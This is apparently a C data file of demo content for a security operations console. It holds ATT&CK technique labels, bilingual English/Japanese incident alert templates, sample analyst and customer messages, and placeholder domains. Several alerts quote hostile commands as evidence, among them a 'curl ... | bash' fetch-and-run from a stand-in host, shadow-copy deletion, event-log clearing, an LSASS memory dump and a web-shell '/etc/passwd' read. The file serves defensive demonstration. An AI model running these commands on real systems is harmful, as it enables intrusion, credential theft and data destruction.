#include "demo/stock.h"

#define COUNT(array) (sizeof(array) / sizeof *(array))

/* clang-format off */
#define TACTIC_INITIAL     "TA0001: Initial Access"
#define TACTIC_EXECUTION   "TA0002: Execution"
#define TACTIC_PERSISTENCE "TA0003: Persistence"
#define TACTIC_PRIVILEGE   "TA0004: Privilege Escalation"
#define TACTIC_EVASION     "TA0005: Defense Evasion"
#define TACTIC_CREDENTIAL  "TA0006: Credential Access"
#define TACTIC_DISCOVERY   "TA0007: Discovery"
#define TACTIC_LATERAL     "TA0008: Lateral Movement"
#define TACTIC_COLLECTION  "TA0009: Collection"
#define TACTIC_EXFIL       "TA0010: Exfiltration"
#define TACTIC_C2          "TA0011: Command and Control"
#define TACTIC_IMPACT      "TA0040: Impact"

const struct technique techniques[] = {
    {"T1190: Exploit Public-Facing Application", TACTIC_INITIAL},
    {"T1566: Phishing", TACTIC_INITIAL},
    {"T1566.001: Spearphishing Attachment", TACTIC_INITIAL},
    {"T1566.002: Spearphishing Link", TACTIC_INITIAL},
    {"T1078: Valid Accounts", TACTIC_INITIAL},
    {"T1091: Replication Through Removable Media", TACTIC_INITIAL},
    {"T1059: Command and Scripting Interpreter", TACTIC_EXECUTION},
    {"T1059.001: PowerShell", TACTIC_EXECUTION},
    {"T1059.003: Windows Command Shell", TACTIC_EXECUTION},
    {"T1059.004: Unix Shell", TACTIC_EXECUTION},
    {"T1059.005: Visual Basic", TACTIC_EXECUTION},
    {"T1204.002: Malicious File", TACTIC_EXECUTION},
    {"T1047: Windows Management Instrumentation", TACTIC_EXECUTION},
    {"T1569.002: Service Execution", TACTIC_EXECUTION},
    {"T1053.005: Scheduled Task", TACTIC_PERSISTENCE},
    {"T1053.003: Cron", TACTIC_PERSISTENCE},
    {"T1547.001: Registry Run Keys / Startup Folder", TACTIC_PERSISTENCE},
    {"T1543.003: Windows Service", TACTIC_PERSISTENCE},
    {"T1543.004: Launch Daemon", TACTIC_PERSISTENCE},
    {"T1505.003: Web Shell", TACTIC_PERSISTENCE},
    {"T1098.004: SSH Authorized Keys", TACTIC_PERSISTENCE},
    {"T1136.001: Local Account", TACTIC_PERSISTENCE},
    {"T1068: Exploitation for Privilege Escalation", TACTIC_PRIVILEGE},
    {"T1055: Process Injection", TACTIC_PRIVILEGE},
    {"T1027: Obfuscated Files or Information", TACTIC_EVASION},
    {"T1036: Masquerading", TACTIC_EVASION},
    {"T1036.005: Match Legitimate Name or Location", TACTIC_EVASION},
    {"T1070.001: Clear Windows Event Logs", TACTIC_EVASION},
    {"T1112: Modify Registry", TACTIC_EVASION},
    {"T1218.005: Mshta", TACTIC_EVASION},
    {"T1218.011: Rundll32", TACTIC_EVASION},
    {"T1562.001: Disable or Modify Tools", TACTIC_EVASION},
    {"T1003.001: LSASS Memory", TACTIC_CREDENTIAL},
    {"T1003.003: NTDS", TACTIC_CREDENTIAL},
    {"T1110.003: Password Spraying", TACTIC_CREDENTIAL},
    {"T1555.003: Credentials from Web Browsers", TACTIC_CREDENTIAL},
    {"T1558.003: Kerberoasting", TACTIC_CREDENTIAL},
    {"T1046: Network Service Discovery", TACTIC_DISCOVERY},
    {"T1082: System Information Discovery", TACTIC_DISCOVERY},
    {"T1087.002: Domain Account", TACTIC_DISCOVERY},
    {"T1021.001: Remote Desktop Protocol", TACTIC_LATERAL},
    {"T1021.002: SMB/Windows Admin Shares", TACTIC_LATERAL},
    {"T1570: Lateral Tool Transfer", TACTIC_LATERAL},
    {"T1560.001: Archive via Utility", TACTIC_COLLECTION},
    {"T1567.002: Exfiltration to Cloud Storage", TACTIC_EXFIL},
    {"T1048: Exfiltration Over Alternative Protocol", TACTIC_EXFIL},
    {"T1071.001: Web Protocols", TACTIC_C2},
    {"T1071.004: DNS", TACTIC_C2},
    {"T1105: Ingress Tool Transfer", TACTIC_C2},
    {"T1219: Remote Access Software", TACTIC_C2},
    {"T1572: Protocol Tunneling", TACTIC_C2},
    {"T1486: Data Encrypted for Impact", TACTIC_IMPACT},
    {"T1490: Inhibit System Recovery", TACTIC_IMPACT},
    {"T1496: Resource Hijacking", TACTIC_IMPACT},
};
const size_t techniques_n = COUNT(techniques);

const struct story stories[] = {
    {WINDOWS, "Behavior Detection", "Execution", "malware", {2, 6, 1}, {"T1059.001", "T1027", "T1105"},
     "C:\\Users\\{u}\\AppData\\Local\\Temp\\upd_3f.ps1", "powershell.exe", "KILL_PROCESS",
     {"Obfuscated PowerShell started by an Office process on {h}", "{h} で Office から難読化された PowerShell が起動"},
     {"On **{h}** `winword.exe` started `powershell.exe` with an encoded command under the account `{u}`.\n\n"
      "- Script: `{p}`\n- SHA-256: `{x}`\n- It then asked `{d}` ({i}) for a second stage.\n\n"
      "The second stage was not written to disk as far as telemetry shows.",
      "**{h}** でアカウント `{u}` の `winword.exe` が、エンコードされたコマンド付きの `powershell.exe` を起動しました。\n\n"
      "- スクリプト: `{p}`\n- SHA-256: `{x}`\n- 直後に `{d}` ({i}) へ接続しています。\n\n"
      "テレメトリの範囲では、第二段階のファイルはディスクに書き込まれていません。"},
     {"Delete the document, reset the password of `{u}` and block `{d}`.", "添付文書を削除し、`{u}` のパスワードを変更し、`{d}` を遮断してください。"}},
    {WINDOWS, "Anti-Malware Engine", "Impact", "ransomware", {9, 1, 0}, {"T1486", "T1490", "T1059.003"},
     "C:\\ProgramData\\svc\\lockhost.exe", "lockhost.exe", "ISOLATE_HOST",
     {"Ransomware activity on host {h}", "ホスト {h} でランサムウェアの活動を検出"},
     {"`{c}` renamed more than 400 files within a minute on **{h}** and ran\n\n```\nvssadmin delete shadows /all /quiet\n```\n\n"
      "- File: `{p}`\n- SHA-256: `{x}`\n- Account: `{u}`\n\nEncryption stopped when the process was ended by the protection.",
      "**{h}** で `{c}` が 1 分間に 400 以上のファイル名を変更し、次のコマンドを実行しました。\n\n```\nvssadmin delete shadows /all /quiet\n```\n\n"
      "- ファイル: `{p}`\n- SHA-256: `{x}`\n- アカウント: `{u}`\n\n保護機能がプロセスを終了した時点で暗号化は止まっています。"},
     {"Keep the host isolated, restore the share from backup, look for `{x}` on all hosts.", "端末の隔離を続け、共有フォルダーをバックアップから復元し、全端末で `{x}` を検索してください。"}},
    {WINDOWS, "Behavior Detection", "Credential Access", "targeted", {6, 3, 0}, {"T1003.001", "T1036", NULL},
     "C:\\Windows\\Temp\\procdump64.exe", "procdump64.exe", "MEMORY_DUMP",
     {"Memory of LSASS read on {h}", "{h} で LSASS のメモリが読み取られました"},
     {"A process read the memory of `lsass.exe` on **{h}**.\n\n1. `{u}` signed in over RDP from {i}.\n2. `{p}` was started with `-ma lsass.exe`.\n"
      "3. The dump was packed and is no longer on disk.",
      "**{h}** で `lsass.exe` のメモリが読み取られました。\n\n1. `{u}` が {i} から RDP でサインイン\n2. `{p}` が `-ma lsass.exe` 付きで起動\n"
      "3. ダンプは圧縮され、現在ディスクにはありません"},
     {"Treat all accounts that were signed in on {h} as known to the attacker.", "{h} にサインインしていた全アカウントの資格情報が漏れたものとして扱ってください。"}},
    {WINDOWS | LINUX, "Network Threat Protection", "Command and Control", "c2", {3, 5, 1}, {"T1071.001", "T1105", NULL},
     "/tmp/.X11-cache/kworkerd", "kworkerd", "ISOLATE_HOST",
     {"Regular connections to a command server from {h}", "{h} から指令サーバーへの定期的な通信"},
     {"**{h}** contacts `{d}` ({i}) every 60 seconds with equal sizes, which is typical of a beacon.\n\n"
      "| what | value |\n|---|---|\n| process | `{c}` |\n| file | `{p}` |\n\nNo data of notable size went out so far.",
      "**{h}** が 60 秒ごとに同じ大きさの通信を `{d}` ({i}) と行っています。ビーコンの特徴です。\n\n"
      "| 項目 | 値 |\n|---|---|\n| プロセス | `{c}` |\n| ファイル | `{p}` |\n\n現在までに目立つ量のデータ送信はありません。"},
     {"Block `{d}` at the proxy and isolate {h} until it was examined.", "プロキシーで `{d}` を遮断し、調査が済むまで {h} を隔離してください。"}},
    {WINDOWS, "Web Threat Protection", "Initial Access", "malware", {1, 5, 3}, {"T1566.002", "T1204.002", NULL},
     "C:\\Users\\{u}\\Downloads\\invoice_2211.iso", "explorer.exe", "DELETE_FILE",
     {"Disk image with a loader downloaded by {u} on {h}", "{u} が {h} でローダー入りのディスクイメージをダウンロード"},
     {"The user `{u}` followed a link in a mail and downloaded `{p}` from `{d}`.\n\nThe image holds a shortcut that starts a library. "
      "It was **not opened**.",
      "利用者 `{u}` がメール内のリンクから `{d}` の `{p}` をダウンロードしました。\n\nイメージにはライブラリーを起動するショートカットが含まれています。**開かれていません。**"},
     {"Delete the file and remind the user how to report such mail.", "ファイルを削除し、不審メールの報告方法を利用者へ案内してください。"}},
    {WINDOWS, "Behavior Detection", "Persistence", "malware", {1, 6, 2}, {"T1547.001", "T1112", "T1036.005"},
     "C:\\Users\\{u}\\AppData\\Roaming\\Microsoft\\svch0st.exe", "svch0st.exe", "DELETE_REGISTRY_KEY",
     {"Autostart entry for an unknown program on {h}", "{h} に不明なプログラムの自動起動エントリー"},
     {"A value was added under `HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run` on **{h}**, pointing to\n\n`{p}`\n\n"
      "The name imitates a part of Windows. It is not signed; first seen anywhere yesterday.",
      "**{h}** の `HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run` に次を指す値が追加されました。\n\n`{p}`\n\n"
      "Windows の部品に似せた名前です。署名なし、初観測は昨日です。"},
     {"Delete the value and the file.", "値とファイルを削除してください。"}},
    {WINDOWS, "Event Log Analysis", "Lateral Movement", "targeted", {6, 3, 0}, {"T1021.002", "T1569.002", "T1570"},
     "C:\\Windows\\PSEXESVC.exe", "PSEXESVC.exe", "ISOLATE_HOST",
     {"Remote service installed on {h} from a workstation", "ワークステーションから {h} にリモートサービスが登録されました"},
     {"From {i} the account `{u}` copied `{p}` to `ADMIN$` of **{h}** and started it as a service.\n\n- Not in the list of administration hosts.",
      "アカウント `{u}` が {i} から **{h}** の `ADMIN$` へ `{p}` をコピーし、サービスとして起動しました。\n\n- 管理用端末の一覧にない送信元です。"},
     {"Confirm whether an administrator did this.", "管理者による作業かどうかをご確認ください。"}},
    {WINDOWS, "Event Log Analysis", "Credential Access", "", {2, 5, 2}, {"T1110.003", "T1078", NULL},
     "", "lsass.exe", "",
     {"Password spraying against accounts of the domain, seen on {h}", "ドメインのアカウントに対するパスワードスプレー攻撃 ({h})"},
     {"Between 02:10 and 02:40 there were **312 failed sign-ins** to 156 accounts from {i}; one succeeded: `{u}`.\n\nThe source is not known in this organisation.",
      "02:10 から 02:40 の間に {i} から 156 アカウントに対し **312 件のサインイン失敗** があり、`{u}` の 1 件が成功しました。\n\n送信元は組織内で使われていません。"},
     {"Reset the password of `{u}`, require a second factor, block {i}.", "`{u}` のパスワードを変更し、多要素認証を必須とし、{i} を遮断してください。"}},
    {WINDOWS, "IDS", "Credential Access", "targeted", {5, 4, 0}, {"T1558.003", "T1087.002", NULL},
     "C:\\Users\\Public\\rb.exe", "rb.exe", "GET_FILE",
     {"Many service tickets requested by {u} on {h}", "{h} で {u} が大量のサービスチケットを要求"},
     {"`{u}` on **{h}** asked for tickets of 48 service accounts with RC4 within two seconds.\n\nTool: `{p}`.",
      "**{h}** の `{u}` が 2 秒間に 48 のサービスアカウントのチケットを RC4 で要求しました。\n\nツール: `{p}`"},
     {"Change the passwords of service accounts with a principal name, longest first.", "SPN を持つサービスアカウントのパスワードを変更してください。"}},
    {LINUX, "Behavior Detection", "Impact", "riskware", {1, 4, 5}, {"T1496", "T1053.003", NULL},
     "/var/tmp/.cache/xmrig", "xmrig", "KILL_PROCESS",
     {"Miner running on {h}", "{h} で暗号資産マイナーが動作"},
     {"`{c}` uses all cores of **{h}** and talks to `{d}:3333`.\n\n- File: `{p}`\n- Started again every minute by the crontab of `{u}`",
      "`{c}` が **{h}** の全コアを使用し、`{d}:3333` と通信しています。\n\n- ファイル: `{p}`\n- `{u}` の crontab により毎分起動"},
     {"End the process, remove the crontab line, find out how it came in.", "プロセスを終了し、crontab の行を削除し、侵入経路を調査してください。"}},
    {LINUX, "Web Threat Protection", "Persistence", "targeted", {6, 3, 0}, {"T1505.003", "T1190", "T1059.004"},
     "/var/www/html/uploads/thumb.php", "php-fpm", "QUARANTINE_FILE",
     {"Web shell on server {h}", "サーバー {h} に Web シェル"},
     {"A script that runs commands was uploaded to **{h}** through the contact form and called from {i}.\n\n```\nid; uname -a; cat /etc/passwd\n```\n\n- `{p}`\n- SHA-256 `{x}`",
      "**{h}** に、コマンドを実行するスクリプトが問い合わせフォーム経由で置かれ、{i} から呼び出されました。\n\n```\nid; uname -a; cat /etc/passwd\n```\n\n- `{p}`\n- SHA-256 `{x}`"},
     {"Quarantine the file, update the web application, look through the access log for {i}.", "ファイルを隔離し、Web アプリケーションを更新し、アクセスログで {i} を確認してください。"}},
    {LINUX, "Log Inspection", "Persistence", "", {2, 5, 2}, {"T1098.004", "T1078", NULL},
     "/root/.ssh/authorized_keys", "sshd", "GET_FILE",
     {"New SSH key for root on {h}", "{h} の root に SSH 鍵が追加されました"},
     {"A key with the comment `{u}@laptop` was appended to `{p}` on **{h}** from a session of {i}.\n\nNo change is on record for this time.",
      "**{h}** の `{p}` に、コメント `{u}@laptop` の鍵が {i} のセッションから追加されました。\n\nこの時間の変更申請は見当たりません。"},
     {"Confirm with `{u}`; remove the key otherwise.", "`{u}` に確認し、心当たりがなければ鍵を削除してください。"}},
    {LINUX | MACOS, "Behavior Detection", "Execution", "malware", {2, 5, 2}, {"T1059.004", "T1105", "T1027"},
     "/tmp/install.sh", "bash", "DELETE_FILE",
     {"Script from the network run by a shell on {h}", "{h} でネットワークから取得したスクリプトが実行されました"},
     {"`curl -s http://{d}/i.sh | bash` was run by `{u}` on **{h}**.\n\nThe script wrote `{p}` (SHA-256 `{x}`) and ended with an error: the architecture did not match.",
      "**{h}** で `{u}` が `curl -s http://{d}/i.sh | bash` を実行しました。\n\nスクリプトは `{p}` (SHA-256 `{x}`) を書き込みましたが、アーキテクチャーが合わず失敗しています。"},
     {"Delete the file, ask `{u}` what was meant to be installed.", "ファイルを削除し、`{u}` に何を導入しようとしたか確認してください。"}},
    {MACOS, "Anti-Malware Engine", "Credential Access", "malware", {3, 5, 1}, {"T1555.003", "T1543.004", NULL},
     "/Users/{u}/Library/LaunchAgents/com.updater.plist", "osascript", "QUARANTINE_FILE",
     {"Stealer asks for the password of {u} on {h}", "{h} で情報窃取マルウェアが {u} のパスワードを要求"},
     {"A fake installer on **{h}** shows a password dialogue by `{c}` and reads the browser's stores.\n\n- `{p}`\n- Sends to `{d}`",
      "**{h}** で偽のインストーラーが `{c}` によりパスワード画面を表示し、ブラウザーの保存情報を読み取りました。\n\n- `{p}`\n- 送信先 `{d}`"},
     {"Change all passwords that the browser had stored.", "ブラウザーに保存されていたパスワードをすべて変更してください。"}},
    {WINDOWS, "Anti-Malware Engine", "Initial Access", "worm", {1, 3, 6}, {"T1091", "T1204.002", NULL},
     "E:\\写真\\Photos.lnk", "rundll32.exe", "QUARANTINE_FILE",
     {"Worm on a USB stick at {h}", "{h} に接続された USB メモリーからワームを検出"},
     {"A USB stick at **{h}** holds a shortcut that starts a hidden library:\n\n`{p}`\n\nThe engine removed it.",
      "**{h}** に接続された USB メモリーに、隠しライブラリーを起動するショートカットがありました。\n\n`{p}`\n\n検知エンジンが駆除しました。"},
     {"Find out where the stick was used before.", "この USB メモリーの使用履歴を確認してください。"}},
    {WINDOWS | LINUX, "IDS", "Discovery", "", {0, 4, 5}, {"T1046", "T1082", NULL},
     "C:\\Tools\\nmap\\nmap.exe", "nmap.exe", "",
     {"Network scan from {h}", "{h} からのネットワークスキャン"},
     {"**{h}** tried 1,024 ports on 254 neighbours within five minutes (account `{u}`).\n\nProcess `{c}`.",
      "**{h}** が 5 分間に近隣 254 台の 1,024 ポートへ接続を試みました (アカウント `{u}`)。\n\nプロセス `{c}`"},
     {"Tell us if this was a planned test.", "計画された診断であればお知らせください。"}},
    {WINDOWS, "Behavior Detection", "Defense Evasion", "targeted", {5, 4, 0}, {"T1562.001", "T1112", "T1543.003"},
     "C:\\Windows\\System32\\drivers\\rtcore64.sys", "sc.exe", "RUN_SCRIPT",
     {"Attempt to switch the protection off on {h}", "{h} で保護機能を停止しようとする試み"},
     {"A vulnerable driver was installed on **{h}** by `{u}` and used to end protected processes.\n\n- Driver: `{p}`\n\nSelf-defence held; telemetry is complete.",
      "**{h}** に `{u}` が脆弱なドライバーを導入し、保護されたプロセスを終了しようとしました。\n\n- ドライバー: `{p}`\n\n自己防衛機能が働き、テレメトリに欠落はありません。"},
     {"Isolate {h}; this step usually precedes encryption.", "{h} を隔離してください。暗号化の直前に行われる手口です。"}},
    {WINDOWS, "Behavior Detection", "Exfiltration", "targeted", {4, 5, 0}, {"T1567.002", "T1560.001", NULL},
     "C:\\PerfLogs\\rclone.exe", "rclone.exe", "KILL_PROCESS",
     {"Large upload to cloud storage from {h}", "{h} からクラウドストレージへの大量アップロード"},
     {"`{c}` sent 4.2 GB from **{h}** to `{d}` ({i}) under `{u}`; before, archives with passwords were made of `D:\\Shares`.",
      "**{h}** の `{c}` が `{u}` の権限で 4.2 GB を `{d}` ({i}) へ送信しました。その前に `D:\\Shares` のパスワード付き書庫が作成されています。"},
     {"Stop the transfer; find out what the archives held.", "転送を停止し、書庫の内容を確認してください。"}},
    {WINDOWS, "Application Control", "Command and Control", "riskware", {0, 4, 6}, {"T1219", NULL, NULL},
     "C:\\Users\\{u}\\Downloads\\AnyDesk.exe", "AnyDesk.exe", "PREVENT_EXECUTION",
     {"Remote access program on {h} outside the list of allowed ones", "{h} で許可されていないリモートアクセスソフトを検出"},
     {"`{u}` started `{p}` on **{h}**. A session from {i} lasted 14 minutes.\n\nThe program itself is clean; callers who pretend to be support use it.",
      "`{u}` が **{h}** で `{p}` を起動し、{i} からのセッションが 14 分間続きました。\n\nプログラム自体は無害ですが、サポート詐欺で使われます。"},
     {"Ask `{u}` who was on the phone.", "`{u}` に電話の相手を確認してください。"}},
    {WINDOWS, "Web Threat Protection", "Execution", "adware", {0, 1, 9}, {"T1204.002", NULL, NULL},
     "C:\\Users\\{u}\\AppData\\Local\\PDFTool\\update.exe", "update.exe", "DELETE_FILE",
     {"Advertising software on {h}", "{h} でアドウェアを検出"},
     {"A free PDF tool on **{h}** brought an updater that changes the browser's start page.\n\n`{p}`, MD5 `{m}`.",
      "**{h}** の無料 PDF ツールに、ブラウザーの開始ページを変更する更新プログラムが含まれていました。\n\n`{p}`、MD5 `{m}`"},
     {"Uninstall the tool.", "ツールをアンインストールしてください。"}},
    {WINDOWS, "Behavior Detection", "Persistence", "targeted", {4, 5, 0}, {"T1053.005", "T1218.011", "T1055"},
     "C:\\ProgramData\\Intel\\gfx.dll", "rundll32.exe", "GET_FILE",
     {"Scheduled task loads an unknown library on {h}", "{h} のスケジュールタスクが不明なライブラリーを読み込み"},
     {"The task `\\Microsoft\\Windows\\GfxUpdate` on **{h}** runs every 20 minutes:\n\n```\nrundll32.exe {p},Start\n```\n\n"
      "The library injects into `explorer.exe` and resolves `{d}` by DNS.",
      "**{h}** のタスク `\\Microsoft\\Windows\\GfxUpdate` が 20 分ごとに次を実行します。\n\n```\nrundll32.exe {p},Start\n```\n\n"
      "ライブラリーは `explorer.exe` に注入され、DNS で `{d}` を解決します。"},
     {"We need the library for analysis.", "解析のためライブラリーの取得を承認してください。"}},
    {WINDOWS, "Behavior Detection", "Execution", "malware", {1, 6, 2}, {"T1218.005", "T1059.005", NULL},
     "C:\\Users\\{u}\\Desktop\\見積書.hta", "mshta.exe", "DELETE_FILE",
     {"Script host started from a file named like a quotation on {h}", "{h} で「見積書」を装ったスクリプトが実行されました"},
     {"`{u}` opened `{p}` on **{h}**; `{c}` asked `{d}` for more and was stopped.",
      "`{u}` が **{h}** で `{p}` を開き、`{c}` が `{d}` へ接続しようとして止められました。"},
     {"Delete the file; block attachments of this type.", "ファイルを削除し、この種類の添付を遮断してください。"}},
    {WINDOWS | LINUX, "IDS", "Command and Control", "c2", {3, 5, 0}, {"T1572", "T1071.004", NULL},
     "/usr/local/bin/dnsd", "dnsd", "ISOLATE_HOST",
     {"Tunnel through DNS from {h}", "{h} からの DNS トンネリング"},
     {"**{h}** asks for some 9,000 names under `{d}` per hour, 60 characters long each, answered by TXT records.\n\nProcess `{c}` of `{u}`.",
      "**{h}** が `{d}` の下に 1 時間約 9,000 件、60 文字の名前を問い合わせ、TXT レコードで応答されています。\n\nプロセス `{c}` (`{u}`)"},
     {"Block the domain at the resolvers.", "リゾルバーでドメインを遮断してください。"}},
};
const size_t stories_n = COUNT(stories);

#define HOURS(n) ((n) * 3600LL * 1000)
const struct showcase_story showcases[SHOWCASES_N] = {
    [SHOW_CARBANAK] = {108656, "JERRY.soc.lab", HOURS(80),
     {WINDOWS, "Behavior Detection", "Lateral Movement", "targeted", {1, 0, 0}, {"T1059.001", "T1055", "T1021.001"},
      "C:\\Windows\\Temp\\winlogin.exe", "winlogin.exe", "ISOLATE_HOST",
      {"Carbanak/Cobalt-related attack on host {h}", ""},
      {"Several traces on **{h}** match what is known of the Carbanak/Cobalt group.\n\n1. A document opened by `{u}` started `powershell.exe`.\n"
       "2. `{p}` was written (SHA-256 `{x}`) and injected into `svchost.exe`.\n3. It contacts `{d}` ({i}) over HTTPS.\n4. RDP sessions to two neighbours followed.", ""},
      {"Isolate {h}, change the passwords of its users, look for `{x}` everywhere.", ""}}},
    [SHOW_DOCUMENT] = {127781, "Alex-Desktop.abc.lab", HOURS(52),
     {WINDOWS, "Anti-Malware Engine", "Initial Access", "malware", {0, 1, 0}, {"T1566.001", "T1204.002", NULL},
      "C:\\Users\\alex\\Downloads\\Contract.docm", "winword.exe", "QUARANTINE_FILE",
      {"Malicious document on PC {h}", ""},
      {"The document `{p}` on **{h}** holds a macro that downloads a program from `{d}`.\n\nSHA-256: `{x}`", ""},
      {"Quarantine the document.", ""}}},
    [SHOW_EVENT_LOGS] = {861376, "webserv", HOURS(30),
     {WINDOWS, "Event Log Analysis", "Defense Evasion", "targeted", {0, 1, 0}, {"T1070.001", "T1059.003", NULL},
      "C:\\Windows\\System32\\wevtutil.exe", "wevtutil.exe", "",
      {"Suspicious event logs cleaning on host {h}", ""},
      {"On **{h}** the logs *Security*, *System* and *Application* were cleared by `{u}`:\n\n```\nwevtutil cl Security\n```\n\nNo maintenance was announced.", ""},
      {"Tell us whether an administrator did this on purpose.", ""}}},
    [SHOW_RESPONSES] = {1034598, "JERRY.soc.lab", HOURS(4),
     {WINDOWS, "Behavior Detection", "Persistence", "malware", {1, 0, 0}, {"T1547.001", "T1036.005", NULL},
      "C:\\temp\\svchost.exe", "svchost.exe", "GET_FILE",
      {"Masqueraded svchost.exe starts with Windows on host {h}", ""},
      {"`{p}` on **{h}** is not the Windows component of that name. It is started by\n\n`HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\System`\n\nSHA-256 `{x}`", ""},
      {"Confirm that we fetch the file and delete the registry key.", ""}}},
};

const struct bilingual team_lines[] = {
    {"Please confirm the response action so that we can go on.", "対応アクションの承認をお願いいたします。承認後に調査を続けます。"},
    {"Was this done by one of your administrators?", "こちらは管理者の方の作業でしょうか。ご確認をお願いします。"},
    {"We looked at the sample: it is a known loader. No further hosts are affected so far.", "検体を確認しました。既知のローダーです。現時点で他の端末への影響は確認されていません。"},
    {"Do not restart the host, please; its memory is still of use.", "メモリの調査が必要なため、端末を再起動しないでください。"},
    {"The connection has stopped. We keep watching for 24 hours.", "通信は止まりました。24 時間監視を続けます。"},
    {"Could you send us a screenshot of what the user saw?", "利用者に表示された画面のスクリーンショットをお送りいただけますか。"},
    {"Thank you. We set this incident to resolved.", "ありがとうございます。本件を解決済みといたします。"},
    {"Please check whether `{u}` still works for you.", "`{u}` のアカウントが現在も使用されているかご確認ください。"},
};
const size_t team_lines_n = COUNT(team_lines);

const struct bilingual customer_lines[] = {
    {"Yes, that was our maintenance. Sorry for not telling you.", "はい、こちらの保守作業です。事前にお知らせできず申し訳ありません。"},
    {"We are asking the user, please give us an hour.", "利用者に確認中です。1 時間ほどお待ちください。"},
    {"The user says that a colleague sent the file.", "利用者によると、同僚から受け取ったファイルとのことです。"},
    {"The host is off the network now.", "端末をネットワークから切り離しました。"},
    {"Confirmed, please go on.", "承認しました。続けてください。"},
    {"Screenshot attached.", "スクリーンショットを添付しました。"},
    {"Password changed, sessions ended.", "パスワードを変更し、セッションを終了しました。"},
    {"Is {h} the only host concerned?", "影響があるのは {h} だけでしょうか。"},
};
const size_t customer_lines_n = COUNT(customer_lines);

const struct bilingual closings_true[CLOSINGS_N] = {
    {"The file was removed and the host is clean.", "ファイルを削除し、端末に問題がないことを確認しました。"},
    {"Access of the attacker ended, passwords changed.", "攻撃者のアクセスを遮断し、パスワードを変更しました。"},
    {"Host reinstalled by the customer.", "お客様により端末が再構築されました。"},
    {"Stopped by the protection, nothing left to do.", "保護機能により阻止され、追加の対応は不要です。"}};
const struct bilingual closings_false[CLOSINGS_N] = {
    {"Planned work of an administrator.", "管理者による計画された作業でした。"},
    {"An in-house tool, now on the list of known ones.", "社内ツールのため、既知のものとして登録しました。"},
    {"A vulnerability scan that was announced too late.", "事前連絡のなかった脆弱性診断でした。"},
    {"Harmless: a test file of the protection.", "保護機能のテストファイルで、無害です。"}};
const struct bilingual closings_other[CLOSINGS_N] = {
    {"Merged with another incident.", "他のインシデントに統合しました。"},
    {"The host was taken out of service.", "端末は廃止されました。"},
    {"No answer from the user; nothing further seen.", "利用者から回答がなく、その後の活動も確認されていません。"},
    {"Accepted by the customer as a known risk.", "お客様が既知のリスクとして受容しました。"}};

const struct bilingual custom_summaries[CUSTOM_N] = {
    {"Please look at a strange mail on {h}", "{h} に届いた不審なメールの確認依頼"},
    {"{h} has become very slow", "{h} の動作が極端に遅い件"},
    {"Unknown window on {h}", "{h} に見慣れない画面が表示される"},
    {"Lost laptop: {h}", "ノート PC 紛失: {h}"},
    {"Is this sign-in to {h} legitimate?", "{h} へのサインインは正規のものか"}};
const struct bilingual custom_texts[CUSTOM_N] = {
    {"The user `{u}` received a mail with an attachment and opened it. Sender domain: {d}", "利用者 `{u}` が添付ファイル付きのメールを開きました。送信元ドメイン: {d}"},
    {"Since this morning everything on {h} takes minutes. Could it be a miner?", "今朝から {h} の動作が数分単位で遅れます。マイナーの可能性はありますか。"},
    {"A window asked `{u}` for a password and vanished.", "パスワードを求める画面が `{u}` に表示され、すぐに消えました。"},
    {"The laptop of `{u}` was left in a train. Please watch for any sign of life.", "`{u}` のノート PC が電車内に置き忘れられました。通信があればお知らせください。"},
    {"We see a sign-in of `{u}` from {i} at night.", "夜間に {i} から `{u}` のサインインがあります。"}};

const char *const customer_names[] = {"佐藤 健一", "鈴木 美咲", "高橋 大輔", "田中 由美子", "渡辺 翔", "伊藤 さくら", "Maria Schneider",
    "Tom Becker", "Aiko Yamamoto", "Jean Dupont", "Olivia Brown", "Nguyen Van An", "Fatima Al-Sayed", "山本 直樹", "中村 恵"};
const size_t customer_names_n = COUNT(customer_names);

const char *const user_names[] = {"sato.k", "suzuki.m", "takahashi.d", "tanaka.y", "watanabe", "ito.s", "mschneider", "t.becker", "alex", "svc_backup",
    "administrator", "jdupont", "obrown", "n.van.an", "yamamoto", "k.nakamura", "svc_sql", "deploy", "root", "helpdesk"};
const size_t user_names_n = COUNT(user_names);

/* Names that never resolve (RFC 2606, RFC 6761). */
const char *const bad_domains[] = {"update-cdn.example.net", "login-verify.example.com", "static.telemetry.example.org", "files.share-doc.example",
    "pool.coins.example", "api.sync-drive.example", "img.news-feed.example.net", "ns1.tunnel.example.org", "support-desk.example.com", "cdn77.assets.example"};
const size_t bad_domains_n = COUNT(bad_domains);

const struct tenant tenants_stock[TENANTS_STOCK_N] = {
    {"-", "", "", "soc.lab", "Headquarters", "本部", 0},
    {"tokyo", "東京本社", "本社と病棟", "tokyo.example.co.jp", "Workstations", "経理部", 10},
    {"osaka", "大阪支店", "大阪の外来と検査室", "osaka.example.co.jp", "Clinic", "検査室", 20},
    {"nagoya", "Plant Nagoya", "Production and its control network", "nagoya.example.co.jp", "Production", "製造部", 30},
    {"emea", "EMEA", "Offices in Europe, the Middle East and Africa", "emea.example.com", "Offices", "海外拠点", 40},
};
